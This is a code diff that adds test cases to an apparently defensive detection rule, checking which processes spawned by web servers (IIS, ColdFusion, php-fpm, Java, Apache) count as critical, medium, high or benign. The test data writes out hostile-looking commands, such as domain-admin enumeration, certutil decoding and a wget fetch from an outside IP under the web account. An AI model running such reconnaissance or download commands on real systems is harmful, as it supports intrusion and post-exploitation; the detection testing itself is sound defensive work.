@@ -68,7 +68,91 @@ test.each([
     processStart({ image: 'C:\\Windows\\System32\\certutil.exe', commandLine: 'certutil -decode a b', parentImage: IIS }),
     'critical',
   ],
+  [
+    'ColdFusion looks around',
+    processStart({
+      image: CMD,
+      commandLine: 'cmd /c net group "domain admins" /domain',
+      parentImage: 'C:\\ColdFusion2021\\cfusion\\bin\\coldfusion.exe',
+    }),
+    'critical',
+  ],
+  [
+    'Exchange: a pool of the mail server packs',
+    processStart({
+      image: 'C:\\Windows\\System32\\makecab.exe',
+      commandLine: 'makecab a b',
+      parentImage: IIS,
+      parentCommandLine: 'w3wp.exe -ap "MSExchangeOWAAppPool"',
+    }),
+    'medium',
+  ],
+  [
+    'an archive of an application run by itself',
+    processStart({
+      image: '/bin/bash',
+      commandLine: 'bash -c "id"',
+      parentImage: '/usr/bin/java',
+      parentCommandLine: 'java -jar /srv/shop.war',
+    }),
+    'critical',
+  ],
+  [
+    'a product’s Java under a name of its own',
+    processStart({
+      image: CMD,
+      commandLine: 'cmd.exe /c "whoami"',
+      parentImage: 'C:\\Program Files\\Vendor\\jre\\bin\\java.exe',
+      user: 'NT AUTHORITY\\SYSTEM',
+    }),
+    'medium',
+  ],
+  [
+    'a log without parents names the web server’s account',
+    processStart({ image: '/bin/sh', commandLine: 'sh -c id', parentImage: '', user: 'www-data' }),
+    'critical',
+  ],
+  [
+    'nginx with PHP on Linux fetches',
+    processStart({
+      image: '/usr/bin/wget',
+      commandLine: 'wget http://203.0.113.9/f',
+      parentImage: '/usr/sbin/php-fpm8.2',
+      user: 'www-data',
+    }),
+    'critical',
+  ],
+  [
+    'compiler on Linux',
+    processStart({ image: '/usr/bin/gcc', commandLine: 'gcc -o x x.c', parentImage: '/usr/sbin/apache2' }),
+    'high',
+  ],
   // look-alikes
+  [
+    'a service’s Java asks for memory',
+    processStart({
+      image: CMD,
+      commandLine: 'cmd.exe /c systeminfo',
+      parentImage: 'C:\\Program Files\\Vendor\\jre\\bin\\java.exe',
+      user: 'NT AUTHORITY\\SYSTEM',
+    }),
+    '',
+  ],
+  [
+    'a developer’s Java asks who he is',
+    processStart({
+      image: CMD,
+      commandLine: 'cmd.exe /c whoami',
+      parentImage: 'C:\\jdk\\bin\\java.exe',
+      user: 'EXAMPLE\\ann',
+    }),
+    '',
+  ],
+  [
+    'a log without parents and somebody’s account',
+    processStart({ image: '/bin/sh', commandLine: 'sh -c id', parentImage: '', user: 'ann' }),
+    '',
+  ],
   [
     'ASP.NET compiles a page',
     processStart({
